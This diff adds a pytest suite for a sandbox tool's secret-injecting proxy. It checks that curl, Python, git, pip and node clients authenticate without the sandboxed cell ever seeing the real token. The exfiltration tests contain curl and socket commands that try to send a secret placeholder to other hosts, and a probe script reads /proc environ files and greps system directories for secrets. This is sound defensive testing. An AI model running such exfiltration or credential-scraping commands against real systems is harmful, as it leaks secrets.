@@ -1,0 +1,414 @@
+"""Secrets that never enter a cell (issue 32), proven with the clients people use, in real cells.
+
+A local HTTPS server (tests/secret_server.py) plays `api.secret.test` and `other.secret.test` (both mapped to
+127.0.0.1 through the controller's AGNSUP_TEST_EGRESS_HOSTS); it answers only requests that carry the test's
+canary token (bearer, basic or the X-Api-Key header). The controller trusts the server's throwaway CA through
+its own SSL_CERT_FILE; the cell trusts only the system bundle and the controller's CA (agnsup puts that bundle
+in the cell). Each client runs in a cell of an allowlist role (`allow_private`: the server is on loopback)
+that declares the secret; each test asserts that the server got the real value, that the cell never saw it
+(its environment, /proc, the files it can read, its output), that nothing under the state root holds it
+(journal, receipts, logs) and that the receipt counts the use. A placeholder sent anywhere else is refused and
+journaled as `secret.exfiltration`.
+
+The canary is `agnsup-canary-<32 hex>`; the cell searches what it can read for the pattern
+`agnsup-canary-[0-9a-f]{32}`, which does not match itself, so the cell never needs the value to look for it.
+"""
+from __future__ import annotations
+
+import json
+import os
+import re
+import secrets as _secrets
+import sqlite3
+import subprocess
+import sys
+
+import pytest
+
+from conftest import Agnsup, refusals, write_role
+from secret_server import HEADER, HELLO, NAMES, PKG, WHEEL, SecretSite
+
+API, OTHER = NAMES
+TOKEN_VAR = "SECRET_TEST_TOKEN"  # the controller's variable the roles' secrets come from (source = env:...)
+PATTERN = "agnsup-canary-[0-9a-f]{32}"
+HOSTS = json.dumps({API: "127.0.0.1", OTHER: "127.0.0.1"})
+# What the cell records of itself after its client ran, into the worktree's .probe/ (read by the test):
+# its environment twice over, every visible process's environ and cmdline, and the names of the files under
+# the places a command writes to or reads config from that hold anything like a canary.
+PROBE = r"""
+mkdir -p .probe
+env > .probe/env.txt
+cat /proc/self/environ > .probe/self-environ.bin
+for p in /proc/[0-9]*; do cat "$p/environ" "$p/cmdline" 2>/dev/null; done > .probe/procs.bin
+grep -rlsE -D skip '""" + PATTERN + r"""' /tmp /etc /run /var/tmp /dev/shm "$HOME" . /proc/[0-9]*/environ \
+    > .probe/grep.txt 2>/dev/null
+true
+"""
+# (role, inject): each role declares one secret `api` for api.secret.test, its placeholder in API_TOKEN
+ROLES = (("sbearer", "bearer"), ("sbasic", "basic:robot"), ("sheader", f"header:{HEADER}"),
+         ("splace", "placeholder"))
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    s = SecretSite(str(tmp_path_factory.mktemp("secretsite")))
+    yield s
+    s.close()
+
+
+def secret_role(policy_dir, name: str, inject: str | None, port: int, **overrides) -> str:
+    """An allowlist role for the two test names, with the secret `api` (unless inject is None)."""
+    path = write_role(policy_dir, name, network__mode='"allowlist"',
+                      network__allow=f'["{API}:*", "{OTHER}:*"]', network__allow_private="true", **overrides)
+    if inject is not None:
+        with open(path, "a") as f:
+            f.write(f'\n[secrets.api]\nsource = "env:{TOKEN_VAR}"\nenv = "API_TOKEN"\n'
+                    f'hosts = ["{API}:{port}"]\ninject = "{inject}"\n')
+    return path
+
+
+@pytest.fixture
+def sx(state, worktree, policy_dir, site):
+    """An `agnsup` whose controller holds a fresh canary (in TOKEN_VAR), trusts the test CA, maps the test names,
+    and finds the roles of ROLES (and `plain`: the same network, no secret)."""
+    canary = "agnsup-canary-" + _secrets.token_hex(16)
+    assert re.fullmatch(PATTERN, canary)
+    site.reset(canary)
+    for role, inject in ROLES:
+        secret_role(policy_dir, role, inject, site.port)
+    secret_role(policy_dir, "plain", None, site.port)
+    a = Agnsup(state, env={"AGNSUP_POLICY_DIR": str(policy_dir), "AGNSUP_TEST_EGRESS_HOSTS": HOSTS,
+                           "SSL_CERT_FILE": site.ca_bundle, TOKEN_VAR: canary})
+    a.site, a.worktree, a.canary, a.policy_dir = site, worktree, canary, policy_dir
+    return a
+
+
+def run_client(sx, role: str, cell: str, script: str, *, flags=(), check=0, timeout=180):
+    """`script` (sh) in a cell of `role`, then PROBE; the completed process."""
+    return sx("run", "--role", role, "--cell", cell, "--workdir", sx.worktree, *flags, "--", "sh", "-c",
+              script + "\n" + PROBE, check=check, timeout=timeout)
+
+
+def receipt(state: str, cell: str) -> dict:
+    with open(os.path.join(state, "cells", "default", cell, "receipt.json")) as f:
+        return json.load(f)
+
+
+def events(state: str, kind: str) -> list[dict]:
+    db = sqlite3.connect(os.path.join(state, "journal.db"))
+    try:
+        rows = db.execute("SELECT cell_id, data FROM events WHERE kind=? ORDER BY id", (kind,)).fetchall()
+    finally:
+        db.close()
+    return [{"cell_id": c, **json.loads(d or "{}")} for c, d in rows]
+
+
+def files_holding(root: str, needle: bytes) -> list[str]:
+    """Every file under `root` whose bytes hold `needle` (symlinks not followed)."""
+    hits = []
+    for d, _, names in os.walk(root):
+        for n in names:
+            p = os.path.join(d, n)
+            if os.path.islink(p) or not os.path.isfile(p):
+                continue
+            try:
+                with open(p, "rb") as f:
+                    if needle in f.read():
+                        hits.append(p)
+            except OSError:
+                pass
+    return hits
+
+
+def assert_never_in_the_cell_nor_the_records(sx, cp) -> None:
+    """The canary is nowhere the cell or a reader of agnsup's records can see."""
+    needle = sx.canary.encode()
+    assert needle not in cp.stdout and needle not in cp.stderr, "the value came back in the output"
+    probe = os.path.join(sx.worktree, ".probe")
+    assert os.path.exists(os.path.join(probe, "grep.txt")), cp.out + cp.err
+    with open(os.path.join(probe, "grep.txt")) as f:
+        assert f.read() == "", "files the cell can read hold the value"
+    with open(os.path.join(probe, "env.txt")) as f:
+        env = f.read()
+    assert TOKEN_VAR not in env, "the controller's source variable reached the cell"
+    assert files_holding(sx.worktree, needle) == [], "the cell saw the value"
+    assert files_holding(sx.state, needle) == [], "the journal, a receipt or a log holds the value"
+
+
+def served(sx, host=API) -> list:
+    return [r for r in sx.site.seen() if r.host.split(":")[0] == host]
+
+
+def assert_served_with_the_value(sx, auth: str) -> list:
+    """The server answered the cell's requests with the real value in the `auth` form; the requests."""
+    got = [r for r in served(sx) if r.status == 200]
+    assert got, [(r.method, r.path, r.status) for r in sx.site.seen()]
+    assert all(r.auth == auth and sx.canary in r.text() for r in got), [(r.path, r.auth) for r in got]
+    assert not any("agnsup-secret:" in r.text() for r in sx.site.seen()), "a placeholder reached the server"
+    return got
+
+
+def assert_receipt_counts(sx, cell: str, inject: str, at_least: int = 1) -> dict:
+    sec = receipt(sx.state, cell)["secrets"]
+    assert [(s["name"], s["inject"]) for s in sec] == [("api", inject)], sec
+    used = sec[0]["used"]
+    assert [(u["host"], u["port"]) for u in used] == [(API, sx.site.port)], used
+    assert used[0]["count"] >= at_least
+    assert sx.canary not in json.dumps(sec)
+    return sec[0]
+
+
+# ------------------------------------------------------------------------------------------- clients
+
+def test_curl_gets_a_bearer_token_it_never_saw(sx):
+    cp = run_client(sx, "sbearer", "curl", f'curl -fsS {sx.site.url()} && printf "%s\\n" "$API_TOKEN"')
+    assert cp.out == HELLO.decode() + "agnsup-secret:api\n", cp.err
+    got = assert_served_with_the_value(sx, "bearer")
+    assert [r.headers["Authorization"] for r in got] == [f"Bearer {sx.canary}"]
+    assert_receipt_counts(sx, "curl", "bearer")
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+@pytest.mark.parametrize("role, auth, client", [
+    ("sbasic", "basic", ""),                                   # the proxy sets Basic robot:VALUE
+    ("sheader", "header", ""),                                 # the proxy sets X-Api-Key: VALUE
+    ("splace", "header", f'-H "{HEADER}: $API_TOKEN"'),        # the client sends the placeholder, the proxy swaps it
+    ("splace", "basic", '-u "robot:$API_TOKEN"'),              # ... inside a Basic credential too
+])
+def test_curl_with_each_way_of_putting_the_value_on_the_wire(sx, role, auth, client):
+    cp = run_client(sx, role, "curl", f"curl -fsS {client} {sx.site.url()}")
+    assert cp.out == HELLO.decode(), cp.err
+    got = assert_served_with_the_value(sx, auth)
+    if auth == "basic":
+        import base64
+        user = base64.b64decode(got[0].headers["Authorization"].split()[1]).decode().split(":")[0]
+        assert user == "robot"
+    assert_receipt_counts(sx, "curl", dict(ROLES)[role])
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_a_per_call_secret_flag_works_as_a_role_secret(sx):
+    flag = f"api:source=env:{TOKEN_VAR},hosts={API}:{sx.site.port},inject=header:{HEADER},env=API_TOKEN"
+    cp = run_client(sx, "plain", "flag", f'curl -fsS {sx.site.url()} && printf "%s\\n" "$API_TOKEN"',
+                    flags=("--secret", flag))
+    assert cp.out == HELLO.decode() + "agnsup-secret:api\n", cp.err
+    assert_served_with_the_value(sx, "header")
+    assert_receipt_counts(sx, "flag", f"header:{HEADER}")
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+URLLIB = """
+import sys, urllib.request
+print(urllib.request.urlopen(sys.argv[1], timeout=30).read().decode(), end="")
+"""
+
+
+def test_python_urllib_with_the_default_trust(sx):
+    cp = run_client(sx, "sbearer", "urllib", f"{sys.executable} -c '{URLLIB}' {sx.site.url()}")
+    assert cp.out == HELLO.decode(), cp.err
+    assert_served_with_the_value(sx, "bearer")
+    assert_receipt_counts(sx, "urllib", "bearer")
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+REQUESTS = """
+import os, sys, requests
+r = requests.get(sys.argv[1], headers={"X-Api-Key": os.environ["API_TOKEN"]}, timeout=30)
+r.raise_for_status()
+print(r.text, end="")
+"""
+
+
+def test_python_requests_with_a_placeholder_header(sx):
+    if subprocess.run([sys.executable, "-c", "import requests"], capture_output=True).returncode:
+        pytest.skip(f"requests is not importable by the cell's python ({sys.executable})")
+    cp = run_client(sx, "splace", "requests", f"{sys.executable} -c '{REQUESTS}' {sx.site.url()}")
+    assert cp.out == HELLO.decode(), cp.err
+    assert_served_with_the_value(sx, "header")
+    assert_receipt_counts(sx, "requests", "placeholder")
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_git_clone_over_https_with_the_placeholder_as_password(sx):
+    if not os.path.exists("/usr/lib/git-core/git-http-backend"):
+        pytest.skip("git http-backend is not installed")
+    url = f"https://robot:$API_TOKEN@{API}:{sx.site.port}/git/repo.git"
+    cp = run_client(sx, "splace", "git", f'git clone -q "{url}" cloned && cat cloned/README', timeout=240)
+    assert cp.out == "cloned with an injected credential\n", cp.err
+    got = assert_served_with_the_value(sx, "basic")
+    assert any("git-upload-pack" in r.path for r in got)
+    # what git keeps of the remote in the worktree is the placeholder
+    with open(os.path.join(sx.worktree, "cloned", ".git", "config")) as f:
+        assert "agnsup-secret:api" in f.read()
+    assert_receipt_counts(sx, "git", "placeholder", at_least=2)
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_git_clone_with_a_basic_credential_the_proxy_adds(sx):
+    if not os.path.exists("/usr/lib/git-core/git-http-backend"):
+        pytest.skip("git http-backend is not installed")
+    url = f"https://{API}:{sx.site.port}/git/repo.git"
+    cp = run_client(sx, "sbasic", "git", f'git clone -q "{url}" cloned && cat cloned/README', timeout=240)
+    assert cp.out == "cloned with an injected credential\n", cp.err
+    assert_served_with_the_value(sx, "basic")
+    assert_receipt_counts(sx, "git", "basic:robot", at_least=2)
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_pip_downloads_from_an_index_that_needs_basic_auth(sx):
+    # PIP_CONFIG_FILE=/dev/null: none of this host's pip configuration (its index, find-links, cert)
+    index = f"https://robot:$API_TOKEN@{API}:{sx.site.port}/simple/"
+    cp = run_client(sx, "splace", "pip",
+                    f'PIP_CONFIG_FILE=/dev/null PIP_FIND_LINKS= {sys.executable} -m pip download -q --no-deps '
+                    f'--no-cache-dir --disable-pip-version-check --index-url "{index}" -d dl {PKG}', timeout=240)
+    assert os.path.exists(os.path.join(sx.worktree, "dl", WHEEL)), cp.out + cp.err
+    got = assert_served_with_the_value(sx, "basic")
+    assert {r.path for r in got} >= {f"/simple/{PKG}/", f"/packages/{WHEEL}"}
+    assert_receipt_counts(sx, "pip", "placeholder", at_least=2)
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+NODE = "fetch(process.argv[1]).then(r => r.text()).then(t => process.stdout.write(t))" \
+       ".catch(e => { console.error(String(e.cause || e)); process.exit(3); })"
+
+
+def _node_version():
+    try:
+        out = subprocess.run(["node", "--version"], capture_output=True, text=True).stdout.strip()
+    except OSError:
+        return None
+    return tuple(int(x) for x in out.lstrip("v").split(".")[:2])
+
+
+def test_node_fetch(sx):
+    v = _node_version()
+    if v is None:
+        pytest.skip("node is not installed")
+    if v < (22, 21) or v[0] == 23 or (v[0] == 24 and v < (24, 5)):
+        pytest.skip(f"ENV_BLOCKED: Node {v[0]}.{v[1]}'s fetch ignores HTTPS_PROXY (NODE_USE_ENV_PROXY needs Node "
+                    ">= 22.21 or 24.5) and its bundled undici (EnvHttpProxyAgent) is not reachable without "
+                    "installing the undici package: docs/isolation.md, Secrets")
+    cp = run_client(sx, "sbearer", "node", f"node -e '{NODE}' {sx.site.url()}")
+    assert cp.out == HELLO.decode(), cp.err
+    assert_served_with_the_value(sx, "bearer")
+    assert_receipt_counts(sx, "node", "bearer")
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+# ------------------------------------------------------------------------------- exfiltration attempts
+
+def _exfiltration(sx, cell: str) -> list[dict]:
+    return [e for e in events(sx.state, "secret.exfiltration") if e["cell_id"] == cell]
+
+
+@pytest.mark.parametrize("what, where, cmd", [
+    # the placeholder in a header of plain http:// to the other name: the proxy sees it and refuses
+    ("header-http-other", "header", 'curl -sS -o /dev/null -w "%{{http_code}}" -H "{h}: $API_TOKEN" '
+                                    "http://{other}:{http_port}/hello"),
+    # ... or to the secret's own name over plain http://: the value only ever goes out over TLS
+    ("header-http-api", "header", 'curl -sS -o /dev/null -w "%{{http_code}}" -H "{h}: $API_TOKEN" '
+                                  "http://{api}:{http_port}/hello"),
+    # in the URL of a request to the secret's host (it would land in the server's logs)
+    ("url", "url", 'curl -sS -o /dev/null -w "%{{http_code}}" "https://{api}:{port}/hello?k=$API_TOKEN"'),
+    # in the body of a request to the secret's host
+    ("body", "body", 'curl -sS -o /dev/null -w "%{{http_code}}" --data "token=$API_TOKEN" https://{api}:{port}/hello'),
+])
+def test_a_placeholder_sent_anywhere_else_is_refused_and_journaled(sx, what, where, cmd):
+    script = cmd.format(h=HEADER, other=OTHER, api=API, port=sx.site.port, http_port=sx.site.http_port)
+    cp = run_client(sx, "splace", "exfil", script + "; echo")
+    assert cp.out.strip() == "403", (cp.out, cp.err)
+    # the server never got the request (nor the value, nor the placeholder)
+    assert not any(r.status == 200 or "agnsup-secret:" in r.text() or sx.canary in r.text() for r in sx.site.seen())
+    ev = _exfiltration(sx, "exfil")
+    assert ev and ev[0]["name"] == "api" and ev[0]["where"] == where, ev
+    host = OTHER if what == "header-http-other" else API
+    assert ev[0]["host"] == host
+    conns = receipt(sx.state, "exfil")["network"]["connections"]
+    assert any(c.get("rule") == "secret.exfiltration" and c["decision"] != "allowed" for c in conns), conns
+    sec = receipt(sx.state, "exfil")["secrets"]
+    assert sec[0]["refused"] >= 1 and not sec[0]["used"], sec
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+CONNECT = """
+import socket, sys
+s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+s.sendall(b"CONNECT agnsup-secret:api.other.secret.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+print(s.recv(200).split(b"\\r\\n")[0].decode())
+"""
+
+
+def test_a_placeholder_in_a_destination_name_is_refused_and_journaled(sx):
+    cp = run_client(sx, "splace", "dns", f"{sys.executable} -c '{CONNECT}'")
+    assert " 200 " not in cp.out and cp.out.split()[1:2] in (["403"], ["400"]), (cp.out, cp.err)
+    ev = _exfiltration(sx, "dns")
+    assert ev and ev[0]["name"] == "api" and ev[0]["where"] == "dns", ev
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_a_placeholder_inside_tls_to_another_host_is_worthless(sx):
+    """Tunneled TLS to a host no secret lists is opaque to the proxy: the placeholder arrives as a placeholder
+    (docs/isolation.md): the server of the other name sees `agnsup-secret:api`, never the value."""
+    cp = run_client(sx, "splace", "tunnel",
+                    f'curl -ksS -o /dev/null -w "%{{http_code}}" -H "{HEADER}: $API_TOKEN" {sx.site.url(host=OTHER)}'
+                    "; echo")
+    assert cp.out.strip() == "401", (cp.out, cp.err)
+    got = served(sx, OTHER)
+    assert [r.headers.get(HEADER) for r in got] == ["agnsup-secret:api"]
+    assert not any(sx.canary in r.text() for r in sx.site.seen())
+    assert not receipt(sx.state, "tunnel")["secrets"][0]["used"]
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+# ----------------------------------------------------------------------------------------- bad input
+
+def _refused_before_anything_started(sx, cp, cell: str, fragment: str) -> None:
+    lines = cp.err.strip().splitlines()
+    assert len(lines) == 1 and fragment in lines[0], cp.err
+    assert sx.canary not in cp.out + cp.err
+    assert not os.path.exists(os.path.join(sx.state, "cells", "default", cell, "receipt.json"))
+    assert [r for r in refusals(sx.state) if r["cell_id"] == cell], refusals(sx.state)
+    assert files_holding(sx.state, sx.canary.encode()) == []
+
+
+def _flag(sx, **kv) -> str:
+    table = {"source": f"env:{TOKEN_VAR}", "hosts": f"{API}:{sx.site.port}", "inject": "bearer", **kv}
+    return "api2:" + ",".join(f"{k}={v}" for k, v in table.items())
+
+
+@pytest.mark.parametrize("case, kv, fragment", [
+    ("missing-env", {"source": "env:AGNSUP_TEST_NO_SUCH_VARIABLE"}, "AGNSUP_TEST_NO_SUCH_VARIABLE"),
+    ("missing-file", {"source": "file:/nonexistent/agnsup-secret"}, "/nonexistent/agnsup-secret"),
+    ("failing-command", {"source": "command:/bin/false"}, "/bin/false"),
+    ("silent-command", {"source": "command:/bin/true"}, "empty"),
+    ("unlisted-host", {"hosts": "evil.example.com"}, "evil.example.com"),
+    ("bad-inject", {"inject": "smoke-signal"}, "smoke-signal"),
+])
+def test_a_bad_secret_is_one_line_125_journaled_and_nothing_starts(sx, case, kv, fragment):
+    cp = sx("run", "--role", "plain", "--cell", case, "--workdir", sx.worktree, "--secret", _flag(sx, **kv),
+            "--", "touch", "started", check=125)
+    _refused_before_anything_started(sx, cp, case, fragment)
+    assert not os.path.exists(os.path.join(sx.worktree, "started"))
+
+
+def test_a_secret_needs_a_role_whose_traffic_goes_through_the_proxy(sx):
+    write_role(sx.policy_dir, "nonet", network__mode='"deny"')
+    cp = sx("run", "--role", "nonet", "--cell", "nonet", "--workdir", sx.worktree, "--secret", _flag(sx),
+            "--", "touch", "started", check=125)
+    _refused_before_anything_started(sx, cp, "nonet", "allowlist")
+
+
+def test_a_call_may_not_replace_a_role_secret(sx):
+    cp = sx("run", "--role", "sbearer", "--cell", "shadow", "--workdir", sx.worktree, "--secret",
+            _flag(sx).replace("api2:", "api:"), "--", "touch", "started", check=125)
+    _refused_before_anything_started(sx, cp, "shadow", "api")
+
+
+def test_a_ca_directory_that_cannot_be_written_is_refused(sx):
+    os.makedirs(sx.state, exist_ok=True)
+    sx("run", "--cell", "first", "--workdir", sx.worktree, "--", "true", check=0)  # the state root exists
+    with open(os.path.join(sx.state, "ca"), "w") as f:  # where the CA directory goes: a file
+        f.write("not a directory\n")
+    cp = sx("run", "--role", "sbearer", "--cell", "noca", "--workdir", sx.worktree, "--", "touch", "started",
+            check=125)
+    _refused_before_anything_started(sx, cp, "noca", "CA directory")
